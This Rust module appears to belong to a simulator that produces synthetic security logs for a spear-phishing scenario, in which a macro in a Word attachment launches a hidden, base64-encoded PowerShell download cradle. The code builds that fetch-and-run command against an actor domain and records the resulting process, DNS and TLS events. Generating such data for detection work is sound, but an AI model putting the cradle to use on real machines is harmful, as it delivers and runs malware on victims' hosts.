//! A spear-phishing attachment with a macro: Outlook saves the document to its secure
//! temporary folder, Word opens it, the macro starts a hidden PowerShell download
//! cradle (`-enc`, UTF-16LE base64) that fetches the implant over HTTPS and starts it.
//! The implant becomes the host's foothold.

use super::{
    Ctx, Env, Foothold, LOWER_ALNUM, POWERSHELL, SEC, Tls, UPPER_ALNUM, encoded_command, file_name,
    lookup, new_proc, on_host, payload_path, profile_dir, random_text, start, tls_out,
};
use crate::emit::Stream;
use crate::scenario::Os;
use crate::windows;

const WINWORD: &str = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE";
const OUTLOOK: &str = "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE";

pub(super) fn attachment(ctx: &mut Ctx<'_>, env: &mut Env<'_>) {
    let host = env.r.target;
    if super::host_os(ctx, host) != Os::Windows {
        return;
    }
    // The recipient: the step's user, else whoever works at the target.
    let user = env
        .r
        .user
        .or_else(|| ctx.world.users.iter().position(|u| u.workstation == host));
    let Some(user) = user.and_then(|u| ctx.world.users.get(u)).cloned() else {
        return;
    };
    let account = user.qualified.clone();
    let profile = profile_dir(&account);
    let document = env.param("document", "invoice.docm").to_string();
    let domain = env.s.campaign.actor.domain.clone();
    let actor_ip = env.actor_ip().to_string();
    let payload = payload_path(env, &account);
    let payload_name = file_name(&payload).to_string();
    let size: u64 = env.number("payload_bytes", 287_744u64).min(10_000_000_000);

    // Outlook has been running since the user logged on.
    let mut outlook = new_proc(
        ctx,
        host,
        OUTLOOK,
        &format!("\"{OUTLOOK}\" "),
        &account,
        "Medium",
    );
    outlook.current_directory = profile.clone();
    let folder = random_text(ctx, 8, UPPER_ALNUM);
    let saved = format!(
        "{profile}AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\{folder}\\{document}"
    );
    let t = env.later(ctx, 0, 800);
    on_host(ctx, host, t, Stream::Sysmon, |h| {
        windows::file_create(t, h, &outlook, &saved)
    });

    // The user opens it from the message.
    let t = env.later(ctx, 4_000, 40_000);
    let word = start(
        ctx,
        host,
        t,
        &outlook,
        &user.logon_id,
        WINWORD,
        &format!("\"{WINWORD}\" /n \"{saved}\" /o \"\""),
        "Medium",
        &account,
        &format!("{profile}Documents\\"),
    );
    let owner = match document.get(2..) {
        Some(rest) if document.len() > 2 => format!("~${rest}"),
        _ => format!("~${document}"),
    };
    let owner_path = format!(
        "{profile}AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\{folder}\\{owner}"
    );
    let t = env.later(ctx, 300, 1_500);
    on_host(ctx, host, t, Stream::Sysmon, |h| {
        windows::file_create(t, h, &word, &owner_path)
    });

    // "Enable Content": the macro runs the cradle.
    let url = format!(
        "https://{domain}/{}/{payload_name}",
        env.param("url_path", "assets")
    );
    let appdata = format!("{profile}AppData\\Roaming\\");
    let destination = match payload.strip_prefix(&appdata) {
        Some(rest) => format!("$env:APPDATA\\{rest}"),
        None => payload.clone(),
    };
    let script = format!(
        "$u='{url}';$p=\"{destination}\";$w=New-Object System.Net.WebClient;$w.Proxy=[System.Net.WebRequest]::GetSystemWebProxy();$w.Proxy.Credentials=[System.Net.CredentialCache]::DefaultNetworkCredentials;$w.DownloadFile($u,$p);Start-Process $p"
    );
    let command = format!(
        "powershell.exe -nop -w hidden -enc {}",
        encoded_command(&script)
    );
    let t = env.later(ctx, 5_000, 25_000);
    let ps = start(
        ctx,
        host,
        t,
        &word,
        &user.logon_id,
        POWERSHELL,
        &command,
        "Medium",
        &account,
        &format!("{profile}Documents\\"),
    );
    let policy_test = format!(
        "{profile}AppData\\Local\\Temp\\__PSScriptPolicyTest_{}.{}.ps1",
        random_text(ctx, 8, LOWER_ALNUM),
        random_text(ctx, 3, LOWER_ALNUM)
    );
    let t = env.later(ctx, 400, 1_200);
    on_host(ctx, host, t, Stream::Sysmon, |h| {
        windows::file_create(t, h, &ps, &policy_test)
    });
    let t = env.later(ctx, 300, 900);
    lookup(ctx, host, t, Some(&ps), &domain, &actor_ip);
    let t = env.later(ctx, 20, 120);
    let duration = 0.4 + size as f64 / 4_000_000.0;
    tls_out(
        ctx,
        t,
        &Tls {
            host,
            process: Some(&ps),
            user: &user.name,
            dst_ip: &actor_ip,
            name: &domain,
            user_agent: "-",
            sent: 1_080,
            received: size + size / 60 + 4_200,
            duration,
        },
    );
    env.t = env.t.saturating_add(super::nanos(duration));
    let t = env.later(ctx, 100, 400);
    on_host(ctx, host, t, Stream::Sysmon, |h| {
        windows::file_create(t, h, &ps, &payload)
    });
    let t = env.later(ctx, 200, 700);
    let implant = start(
        ctx,
        host,
        t,
        &ps,
        &user.logon_id,
        &payload,
        &format!("\"{payload}\" "),
        "Medium",
        &account,
        &format!("{profile}Documents\\"),
    );
    env.t = t + SEC;
    env.state.footholds.insert(
        host,
        Foothold {
            implant,
            elevated: None,
            account,
            logon_id: user.logon_id.clone(),
            elevated_logon_id: String::new(),
        },
    );
}
